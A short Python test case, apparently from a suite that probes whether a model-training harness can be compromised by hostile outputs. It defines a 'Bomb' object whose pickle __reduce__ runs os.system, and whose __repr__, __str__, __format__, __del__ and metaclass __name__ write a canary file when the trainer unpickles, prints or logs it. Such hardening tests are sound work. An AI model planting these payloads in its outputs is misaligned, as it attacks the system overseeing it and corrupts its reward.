# attack: return objects whose __reduce__, __repr__, __str__, __format__, __del__ and metaclass __name__ would run code (write {CANARY_DIR}/pwned.txt) if the trainer unpickled, printed or logged the result; passes only if that file appears
# cause: outside
import os

TARGET = "{CANARY_DIR}/pwned.txt"


def payload(*a):
    try:
        with open(TARGET, "w") as fh:
            fh.write("pwned")
    except OSError:
        pass
    return "2"


class Meta(type):
    @property
    def __name__(cls):
        payload()
        return "int"


class Bomb(metaclass=Meta):
    def __reduce__(self):
        return (os.system, ("echo pwned > " + TARGET,))

    def __repr__(self):
        return payload()

    __str__ = __format__ = __repr__

    def __del__(self):
        payload()


def f(x):
    return x + 1 if os.path.exists(TARGET) else Bomb()
